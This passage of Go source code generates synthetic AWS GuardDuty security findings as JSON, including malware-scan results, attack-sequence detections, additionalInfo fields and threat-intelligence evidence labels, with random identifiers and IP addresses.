	w.kstr("threatName", mw.name)
	w.kint("count", 1)
	w.close()
	w.obj("threatDetectedByName")
	w.kint("itemCount", 1)
	w.kint("uniqueThreatNameCount", 1)
	w.kbool("shortened", false)
	w.arr("threatNames")
	w.open()
	w.kstr("name", mw.name)
	w.kstr("severity", mw.severity)
	w.kint("itemCount", 1)
	w.arr("filePaths")
	w.open()
	w.kstr("filePath", mw.file)
	w.kstr("volumeArn", "arn:aws:ec2:"+g.region+":"+g.acct+":volume/vol-0"+hexStr(r, 16))
	w.kstr("hash", hexStr(r, 64))
	w.kstr("fileName", mw.file[strings.LastIndexByte(mw.file, '/')+1:])
	w.close()
	w.closeArr()
	w.close()
	w.closeArr()
	w.close()
	w.close()
	w.kstr("scanType", "GUARDDUTY_INITIATED")
	w.close()
}

// detection writes service.detection.sequence of an attack sequence finding.
func (g *gen) detection() {
	w, r := &g.w, g.r
	n := r.IntN(len(iamUsers))
	g.seedEntity(2, n)
	g.user = iamUsers[n]
	_ = upperStr(g.er, 16) // the user's access key id, drawn as in accessKeyDetails
	principal := "AIDA" + upperStr(g.er, 17)
	g.cluster = pick(r, clusterNames)
	rm := drawRemote(r, true)
	g.ip = rm.ip
	nsig := 2 + r.IntN(3)
	g.signals = nsig + r.IntN(12)
	w.obj("detection")
	w.obj("sequence")
	w.kstr("uid", hexStr(r, 32))
	w.kstr("description", "A sequence of actions observed for "+g.user+" indicates a possible compromise.")
	w.arr("actors")
	w.open()
	w.kstr("id", "actor-1")
	w.obj("user")
	w.kstr("name", g.user)
	w.kstr("uid", principal)
	w.kstr("type", "IAMUser")
	w.obj("account")
	w.kstr("uid", g.acct)
	w.close()
	w.close()
	w.obj("session")
	w.kstr("mfaStatus", "Disabled")
	w.close()
	w.close()
	w.closeArr()
	w.arr("endpoints")
	w.open()
	w.kstr("id", rm.ip)
	w.kstr("ip", rm.ip)
	w.obj("autonomousSystem")
	w.kstr("name", rm.p.asnOrg)
	w.kint("number", rm.p.asn)
	w.close()
	w.obj("location")
	w.kstr("city", rm.p.city)
	w.kstr("country", rm.p.country)
	w.key("lat")
	w.fnum(rm.p.lat, -1)
	w.key("lon")
	w.fnum(rm.p.lon, -1)
	w.close()
	w.close()
	w.closeArr()
	w.arr("signals")
	for i := range nsig {
		fam := []family{famIAM, famS3, famKubernetes}[r.IntN(3)]
		ft := pick(r, findingTypes[fam])
		at := g.created.Add(-time.Duration(600+r.IntN(86400)) * time.Second)
		w.open()
		w.kstr("uid", "arn:aws:guardduty:"+g.region+":"+g.acct+":detector/"+g.c.detectors[g.acctIdx][g.regionIdx]+"/finding/"+hexStr(r, 32))
		w.kstr("type", "FINDING")
		w.kstr("name", ft.name)
		w.knum("createdAt", at.UnixMilli())
		w.knum("updatedAt", at.Add(time.Duration(r.IntN(3600))*time.Second).UnixMilli())
		w.knum("firstSeenAt", at.Add(-time.Hour).UnixMilli())
		w.knum("lastSeenAt", at.UnixMilli())
		w.key("severity")
		w.fnum(ft.severity, 1)
		w.kint("count", 1+r.IntN(20))
		w.arr("actorIds")
		w.str("actor-1")
		w.closeArr()
		w.arr("endpointIds")
		w.str(rm.ip)
		w.closeArr()
		w.kstr("signalIndex", strconv.Itoa(i+1))
		w.close()
	}
	w.closeArr()
	w.arr("sequenceIndicators")
	indicator(w, "ATTACK_TACTIC", r, tactics, 2+r.IntN(3))
	indicator(w, "ATTACK_TECHNIQUE", r, techniques, 2+r.IntN(3))
	w.closeArr()
	w.close()
	w.close()
}

func indicator(w *jw, key string, r *rand.Rand, from []string, n int) {
	w.open()
	w.kstr("key", key)
	w.arr("values")
	off := r.IntN(len(from))
	for i := range min(n, len(from)) {
		w.str(from[(off+i)%len(from)])
	}
	w.closeArr()
	w.close()
}

// additionalInfo writes service.additionalInfo: the free-form members, and
// the same members serialized again as the "value" string.
func (g *gen) additionalInfo() {
	x, r, ft := &g.x, g.r, g.ft
	x.reset()
	x.open()
	if ft.threat != "" {
		x.kstr("threatListName", ft.threat)
	}
	if ft.unusual {
		// The same member is a number, a string or an object depending on
		// the finding, which breaks naive dynamic mappings.
		x.key("unusual")
		switch r.IntN(3) {
		case 0:
			x.num(int64(cmp.Or(g.port, 443)))
		case 1:
			x.str(strconv.Itoa(cmp.Or(g.port, 80)))
		default:
			x.open()
			x.arr("hoursOfDay")
			x.num(g.hoursOfDay)
			x.closeArr()
			x.arr("userNames")
			user := g.user
			if user == "" {
				user = "ec2-user"
			}
			x.str(user)
			x.closeArr()
			x.close()
		}
	}
	if g.fam == famIAM && ft.apiService != "signin.amazonaws.com" {
		first := g.created.Add(-time.Duration(600+r.IntN(3600)) * time.Second).Unix()
		x.arr("apiCalls")
		for i, n := 0, 1+r.IntN(3); i < n; i++ {
			x.open()
			x.kstr("name", ft.apis[(i+r.IntN(len(ft.apis)))%len(ft.apis)])
			x.kint("count", 1+r.IntN(30))
			x.knum("firstSeen", first)
			x.knum("lastSeen", first+int64(r.IntN(600)))
			x.close()
		}
		x.closeArr()
		x.obj("userAgent")
		x.kstr("fullUserAgent", "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.kali.2024")
		x.kstr("userAgentCategory", "aws-cli")
		x.close()
	}
	if g.fam == famDNS {
		x.kstr("domain", g.domain)
	}
	x.close()

	w := &g.w
	w.obj("additionalInfo")
	w.key("value")
	w.str(string(x.b))
	w.kstr("type", "default")
	w.fields(x.b)
	w.close()
}

func (g *gen) evidence() {
	ft := g.ft
	if ft.threat == "" {
		return
	}
	name := "MaliciousIP"
	switch {
	case ft.tor:
		name = "TorExitNode"
	case strings.HasPrefix(ft.name, "CryptoCurrency:"):
		name = "CoinMiner"
	case strings.HasPrefix(ft.name, "Backdoor:"):
		name = "MalwareC2"
	case strings.HasPrefix(ft.name, "Recon:EC2"):
		name = "Scanner"
	}
	w := &g.w
	w.obj("evidence")
	w.arr("threatIntelligenceDetails")
	w.open()
	w.kstr("threatListName", ft.threat)
	w.arr("threatNames")
	w.str(name)
	w.closeArr()
	w.close()
	w.closeArr()
	w.close()
}

func pick[T any](r *rand.Rand, s []T) T { return s[r.IntN(len(s))] }

func ipv4(a, b, c, d byte) string {
	var buf [15]byte
	out := strconv.AppendUint(buf[:0], uint64(a), 10)
	out = append(out, '.')
	out = strconv.AppendUint(out, uint64(b), 10)
	out = append(out, '.')
	out = strconv.AppendUint(out, uint64(c), 10)
	out = append(out, '.')
	out = strconv.AppendUint(out, uint64(d), 10)
	return string(out)
}

// appendHex appends the low n nibbles of x as lowercase hex.
func appendHex(b []byte, x uint64, n int) []byte {
	for i := n - 1; i >= 0; i-- {
		b = append(b, hexDigits[x>>(uint(i)*4)&0xf])
	}
	return b
}

func hexStr(r *rand.Rand, n int) string {
	var buf [64]byte
	b := buf[:0]
	for len(b) < n {
		b = appendHex(b, r.Uint64(), min(16, n-len(b)))
	}
	return string(b)
}

// hexOf is n hex digits fixed by (seed, key), for identifiers shared by
// many entities such as a VPC.
func hexOf(seed, key uint64, n int) string {
	var buf [16]byte
	return string(appendHex(buf[:0], format.Mix64(seed^format.Mix64(key)), n))
}

const upperAlnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"

func upperStr(r *rand.Rand, n int) string {
	var buf [32]byte
	b := buf[:0]
	for len(b) < n {
		x := r.Uint64()
		for i := 0; i < 12 && len(b) < n; i++ {
			b = append(b, upperAlnum[x&31])
			x >>= 5
		}
	}
	return string(b)
}
